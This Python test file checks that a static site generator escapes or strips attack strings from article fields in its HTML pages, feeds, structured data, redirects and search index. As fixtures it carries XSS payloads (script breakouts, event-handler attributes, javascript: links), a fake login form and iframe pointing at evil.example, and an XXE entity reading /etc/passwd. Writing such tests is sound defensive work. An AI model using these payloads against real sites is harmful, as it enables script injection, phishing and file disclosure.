"""Nothing written in a brief becomes markup or script anywhere in the built site.

Briefs carry attack strings in every field an editor can type into. The site is built
with the real command, then every output is parsed as its reader would parse it (HTML
by an HTML5 parser, feeds and sitemaps as XML, JSON-LD and JSON Feed as JSON, the
search index as Pagefind stores it) and checked for elements, attributes and URLs
that did not come from Briefing itself.
"""

from __future__ import annotations

import gzip
import html
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import html5lib
import pytest

from conftest import TINY_PNG, GOOD_BRIEF, briefing, made_once, make_project, write

SCRIPT = "</script><script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(2)>'
SINGLE = "'><svg onload=alert(3)>"
ENTITIES = "&lt;script&gt;alert(4)&lt;/script&gt; &amp;lt;b&amp;gt;"
XML = ']]><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'
TEMPLATE = "{{ config.site_name }}{% raw %}"

TITLE = f"Harbour {SCRIPT} {ATTRIBUTE}"
LEAD = f"Lead {SINGLE} {ENTITIES} {XML} {TEMPLATE}"
BODY = """\
## Section {SINGLE}

Raw HTML in the body: <script>alert(5)</script> <img src=x onerror=alert(6)>
<a href="javascript:alert(7)">a javascript link</a> <a href=" JaVaScRiPt:alert(8)">spaced</a>
<iframe src="https://evil.example/" srcdoc="<script>alert(9)</script>"></iframe>
<svg><animate onbegin=alert(10) attributeName=x dur=1s /></svg>
<form action="https://evil.example/"><input name="password"><button>Log in</button></form>
<div style="position:fixed;inset:0" onmouseover="alert(11)">cover</div>
<details open ontoggle=alert(12)><summary>s</summary></details>
<div id="__config">{"base": "https://evil.example/"}</div>

[Markdown javascript link](javascript:alert(13)) and [attribute list](#top){ onclick="alert(14)" }

![An image]({IMAGE}){ onerror="alert(15)" }
"""
IMAGE = "cranes.png"

PAYLOAD_BRIEF = f"""\
---
title: {json.dumps(TITLE)}
date: 2024-03-05T08:00:00+01:00
lead: {json.dumps(LEAD)}
kicker: {json.dumps(ATTRIBUTE)}
shortlink: {json.dumps("https://p.dw.com/p/x1" + ATTRIBUTE.replace(" ", ""))}
image:
  src: {IMAGE}
  alt: {json.dumps(SCRIPT + ATTRIBUTE)}
  caption: {json.dumps(SINGLE + ENTITIES)}
  credit: {json.dumps(XML)}
authors: [ab]
agencies: [{json.dumps(SCRIPT)}, {json.dumps(XML)}]
topics: [{json.dumps(ATTRIBUTE)}, {json.dumps("Economy " + SINGLE)}]
redirect_from: [{json.dumps("/old/" + ATTRIBUTE.replace(" ", "") + "/")}]
---

""" + BODY.replace("{SINGLE}", SINGLE).replace("{IMAGE}", IMAGE)



def build_hostile(root: Path) -> None:
    make_project(root, {"2024/03/good.md": GOOD_BRIEF, "2024/03/hostile.md": PAYLOAD_BRIEF})
    write(root / "content/2024/03" / IMAGE, TINY_PNG)
    result = briefing("build", cwd=root)
    assert result.returncode == 0, result.stderr


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory) -> Path:
    """Built once a run, for every worker: the tests only read it."""
    return made_once(tmp_path_factory, "hostile", build_hostile) / "site"


# --- what counts as injected ---------------------------------------------------------------

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "srcdoc", "data", "xlink:href")


def injected(document: str, where: str) -> list[str]:
    """Elements, attributes and URLs in an HTML document that a brief must not be able to add."""
    tree = html5lib.parse(document, namespaceHTMLElements=False)
    found = []
    ids = [element.get("id") for element in tree.iter() if element.get("id")]
    found += [f"{where}: id={name!r} twice" for name in ("__config", "__drawer", "__search") if ids.count(name) > 1]
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        tag = tag.split("}")[-1]
        if tag in ("iframe", "object", "embed", "frame", "animate") or element.get("name") == "password":
            found.append(f"{where}: <{tag}>")
        for name, value in element.attrib.items():
            if "evil.example" in value:
                found.append(f"{where}: <{tag} {name}={value!r}>")
            name = name.split("}")[-1].lower()
            if name.startswith("on"):
                found.append(f"{where}: <{tag} {name}>")
            if name in URL_ATTRIBUTES and re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith(
                ("javascript:", "data:text", "vbscript:")
            ):
                found.append(f"{where}: <{tag} {name}={value!r}>")
            if name == "style" and "position" in value:
                found.append(f"{where}: <{tag} style={value!r}>")
        if tag == "script":
            text = element.text or ""
            kind = element.get("type", "")
            if kind == "application/ld+json":
                json.loads(text)
            elif element.get("src"):
                if not re.match(r"/?(\.\./)*(assets|pagefind)/|https?://", element.get("src")):
                    found.append(f"{where}: <script src={element.get('src')!r}>")
            elif "alert" in text:  # every attack string calls alert(); no script of ours does
                found.append(f"{where}: <script>{text[:60]}")
    return found


def html_files(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("*.html") if "pagefind" not in p.parts)


def test_no_html_page_carries_markup_or_script_from_a_brief(hostile_site):
    problems = []
    for path in html_files(hostile_site):
        problems += injected(path.read_text(encoding="utf-8"), path.relative_to(hostile_site).as_posix())
    assert problems == []


def test_the_brief_page_shows_the_attack_strings_as_plain_text(hostile_site):
    page = (hostile_site / "2024/03/hostile/index.html").read_text(encoding="utf-8")
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    (h1,) = [e for e in tree.iter("h1")]
    assert "".join(h1.itertext()).strip() == TITLE
    (title,) = tree.iter("title")
    assert title.text.startswith(TITLE)
    description = [m.get("content") for m in tree.iter("meta") if m.get("name") == "description"]
    assert description == [LEAD]
    text = "".join(tree.find("body").itertext())
    for value in (LEAD, SINGLE + ENTITIES, XML, TEMPLATE):
        assert value in text, value
    alts = [img.get("alt") for img in tree.iter("img")]
    assert SCRIPT + ATTRIBUTE in alts
    # The body's harmless parts survive the cleaning.
    assert "a javascript link" in text and "Markdown javascript link" in text and "cover" in text


def test_structured_data_holds_the_values_as_json_strings(hostile_site):
    page = (hostile_site / "2024/03/hostile/index.html").read_text(encoding="utf-8")
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    (script,) = [s for s in tree.iter("script") if s.get("type") == "application/ld+json"]
    data = json.loads(script.text)
    article = next(d for d in (data if isinstance(data, list) else data.get("@graph", [data]))
                   if "headline" in d)
    assert article["headline"] == TITLE and article["description"] == LEAD
    assert "</script" not in script.text.lower()


def xml_documents(site: Path) -> list[Path]:
    return sorted([*site.rglob("*.xml")])


def as_html_text(fragment: str) -> str:
    return "".join(html5lib.parse(f"<body>{fragment}</body>", namespaceHTMLElements=False).find("body").itertext())


def test_feeds_and_sitemaps_are_well_formed_xml_with_the_values_as_text(hostile_site):
    texts = []
    for path in xml_documents(hostile_site):
        raw = path.read_text(encoding="utf-8")
        assert "<!DOCTYPE" not in raw and "<!ENTITY" not in raw, path
        root = ET.fromstring(raw)
        for element in root.iter():
            name = element.tag.split("}")[-1]
            # What feed readers read as HTML: an RSS item's description, Atom's type="html".
            as_html = (root.tag == "rss" and element.tag == "description") or element.get("type") == "html"
            if as_html and element.text:
                assert injected(f"<body>{element.text}</body>", path.name) == []
                texts.append(as_html_text(element.text))
            elif name in ("title", "description", "summary"):
                texts.append(element.text or "")
    assert TITLE in texts and LEAD in texts


def test_json_feed_holds_the_values_as_strings(hostile_site):
    feed = json.loads((hostile_site / "feed.json").read_text(encoding="utf-8"))
    (item,) = [i for i in feed["items"] if i["title"] == TITLE]
    assert item["summary"] == LEAD
    assert injected(f"<body>{item.get('content_html', '')}</body>", "feed.json") == []


def test_redirects_are_single_rules_and_safe_pages(hostile_site):
    for line in (hostile_site / "_redirects").read_text(encoding="utf-8").splitlines():
        if line and not line.startswith("#"):
            assert len(line.split()) == 3 and line.split()[2] in ("301", "302"), line
    pages = [p for p in html_files(hostile_site) if "location.replace" in p.read_text(encoding="utf-8")]
    assert len(pages) >= 2  # the shortlink's and redirect_from's
    for page in pages:
        text = page.read_text(encoding="utf-8")
        # One script, the same on every redirect page (allowed by its hash); its target an attribute.
        ((target, script),) = re.findall(r'<script data-to="([^"<>]*)">(.*?)</script>', text, re.S)
        assert script == "location.replace(document.currentScript.dataset.to + location.hash)"
        assert html.unescape(target) == "/2024/03/hostile/" or html.unescape(target).endswith("/2024/03/hostile/")
        assert text.count("<script") == 1


def pagefind_fragments(site: Path) -> list[dict]:
    out = []
    for path in (site / "pagefind" / "fragment").glob("*.pf_fragment"):
        raw = gzip.decompress(path.read_bytes())
        out.append(json.loads(raw[raw.index(b"{"):]))
    return out


def test_the_search_index_holds_text_not_markup(hostile_site):
    fragments = pagefind_fragments(hostile_site)
    (fragment,) = [f for f in fragments if f["meta"].get("title") == TITLE]
    assert fragment["meta"]["lead"] == LEAD
    # The body was cleaned before indexing: its script and event handlers left no words.
    assert "Raw HTML in the body" in fragment["content"]
    assert "alert(5)" not in fragment["content"] and "alert(6)" not in fragment["content"]


# --- in a real browser ---------------------------------------------------------------------


def test_no_dialog_opens_on_any_page_or_search(browser, hostile_site):
    """Every page of the site (redirects included), then a search that finds the brief."""
    from browser import serve_folder

    dialogs: list[str] = []
    # Without the site's Content-Security-Policy, which would refuse any script that got
    # through: this tests the cleaner alone (test_security_headers.py tests the policy).
    context = browser.new_context(viewport={"width": 1280, "height": 900}, bypass_csp=True)
    page = context.new_page()
    page.set_default_timeout(10_000)
    page.on("dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
    with serve_folder(hostile_site) as url:
        paths = ["/" + p.relative_to(hostile_site).as_posix().removesuffix("index.html")
                 for p in html_files(hostile_site)]
        assert "/2024/03/hostile/" in paths and any(p.startswith("/p/x1") for p in paths)
        for path in paths:
            page.goto(url + path)
            page.wait_for_load_state("load")
        page.goto(url + "/search/?q=harbour")
        page.wait_for_selector(".briefing-results .briefing-result__title")
        assert TITLE in page.locator(".briefing-results .briefing-result__title").all_inner_texts()
        page.hover("body")
        page.wait_for_timeout(500)  # error and toggle events fire after load
    context.close()
    assert dialogs == []


EMBED = GOOD_BRIEF + '\n<iframe src="https://video.example.org/embed/1" title="Video"></iframe>\n'


@pytest.mark.parametrize("trusted", [False, True])
def test_trusted_sites_keep_raw_html_others_get_the_allow_list(tmp_path, trusted):
    root = make_project(tmp_path, {"2024/03/good.md": EMBED})
    if trusted:
        config = root / "mkdocs.yml"
        config.write_text(config.read_text().replace("timezone: Europe/Berlin", "timezone: Europe/Berlin\n      trust_html: true"))
    assert briefing("build", cwd=root).returncode == 0
    tree = html5lib.parse((root / "site/2024/03/good/index.html").read_text(encoding="utf-8"),
                          namespaceHTMLElements=False)
    frames = [f.get("src") for f in tree.iter("iframe")]
    assert frames == (["https://video.example.org/embed/1"] if trusted else [])
    assert "The port was quiet." in "".join(tree.find("body").itertext())


def test_feeds_of_hostile_briefs_parse_cleanly_in_feedparser(hostile_site):
    import feedparser

    feeds = [p for p in hostile_site.rglob("*.xml") if p.name in ("feed.xml", "atom.xml")]
    holding = 0
    for path in feeds:
        parsed = feedparser.parse(path.read_bytes())
        assert not parsed.bozo, (path, parsed.get("bozo_exception"))
        holding += TITLE in [entry.title for entry in parsed.entries]
    assert holding == 2 * 3  # the site's feeds and the hostile brief's two topics', RSS and Atom
